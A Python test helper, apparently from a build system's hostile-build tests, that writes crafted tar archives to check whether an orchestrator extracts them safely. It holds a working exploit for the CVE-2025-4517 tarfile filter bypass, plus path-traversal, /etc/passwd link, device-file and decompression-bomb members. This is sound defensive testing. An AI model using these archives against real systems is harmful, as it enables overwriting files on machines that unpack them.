"""A hostile build host's artifact bundle: ``python3 bundle.py MODE OUT [ARG]``.

Copied into a release tag by the hostile-build tests and run on the build droplet in place
of ``tar`` (through ``~/.bashrc``), so the orchestrator receives a crafted archive:

- ``cve``: CVE-2025-4517's symlink chain past PATH_MAX, then a hard link through it and a
  regular file over the link, aimed at ARG (an absolute path on the orchestrator), plus a
  new file beside it.
- ``symlink`` / ``hardlink`` / ``device`` / ``fifo``: a member of that type among the packages.
- ``absolute`` / ``dotdot`` / ``duplicate`` / ``longname``: a name of that kind.
- ``bomb``: one member of ARG bytes of zeros, gzip-compressed to almost nothing.
- ``many``: ARG empty files.
- ``pax``: a pax header of ARG bytes.
"""

import io
import os
import sys
import tarfile
from typing import IO, cast


def regular(name: str, data: bytes) -> tuple[tarfile.TarInfo, io.BytesIO]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, io.BytesIO(data)


def special(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    return info


class Zeros:
    """``size`` zero bytes to read, never all in memory."""

    def __init__(self, size: int) -> None:
        self.left = size

    def read(self, size: int) -> bytes:
        count = min(size, self.left)
        self.left -= count
        return bytes(count)


def cve(tar: tarfile.TarFile, victim: str) -> None:
    component = "d" * 247
    steps = "abcdefghijklmnop"
    path = ""
    for step in steps:
        tar.addfile(special(os.path.join(path, component), tarfile.DIRTYPE))
        tar.addfile(special(os.path.join(path, step), tarfile.SYMTYPE, component))
        path = os.path.join(path, component)
    linkpath = os.path.join(*steps, "l" * 254)
    tar.addfile(special(linkpath, tarfile.SYMTYPE, "../" * len(steps)))
    directory, name = os.path.split(victim)
    # The filter resolves what follows the too-long path by text: 17 steps up stay inside
    # for it, while the kernel climbs 17 levels above the destination (to / from any
    # destination up to 17 levels deep).
    escape = linkpath + "/" + "../" * (len(steps) + 1) + directory.lstrip("/")
    tar.addfile(special("escape", tarfile.SYMTYPE, escape))
    tar.addfile(special("flaglink", tarfile.LNKTYPE, "escape/" + name))
    tar.addfile(*regular("flaglink", b"overwritten by a build host\n"))
    tar.addfile(*regular("escape/created-by-build-host", b"created\n"))


def craft(mode: str, out: str, arg: str = "") -> None:
    """Write the hostile bundle ``mode`` to ``out``."""
    with tarfile.open(out, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        if mode == "cve":
            cve(tar, arg)
        elif mode == "symlink":
            tar.addfile(special("dist/hello.deb", tarfile.SYMTYPE, "/etc/passwd"))
        elif mode == "hardlink":
            tar.addfile(special("dist/hello.deb", tarfile.LNKTYPE, "/etc/passwd"))
        elif mode == "device":
            tar.addfile(special("dist/hello.deb", tarfile.BLKTYPE))
        elif mode == "fifo":
            tar.addfile(special("dist/hello.deb", tarfile.FIFOTYPE))
        elif mode == "absolute":
            tar.addfile(*regular(os.path.join(arg, "absolute-by-build-host"), b"x"))
        elif mode == "dotdot":
            tar.addfile(*regular("../" * 64 + arg.lstrip("/") + "/dotdot-by-build-host", b"x"))
        elif mode == "duplicate":
            tar.addfile(*regular("SHA256SUMS", b""))
            tar.addfile(*regular("SHA256SUMS", b""))
        elif mode == "longname":
            tar.addfile(*regular("dist/" + "x" * 5000 + ".deb", b"x"))
        elif mode == "bomb":
            info = tarfile.TarInfo("dist/zeros.deb")
            info.size = int(arg)
            tar.addfile(info, cast(IO[bytes], Zeros(info.size)))
        elif mode == "many":
            for number in range(int(arg)):
                tar.addfile(*regular(f"dist/f{number}.deb", b""))
        elif mode == "pax":
            info = tarfile.TarInfo("SHA256SUMS")
            info.pax_headers = {"comment": "x" * int(arg)}
            tar.addfile(info, io.BytesIO(b""))
        else:
            raise SystemExit(f"unknown mode {mode}")


if __name__ == "__main__":
    craft(*sys.argv[1:])
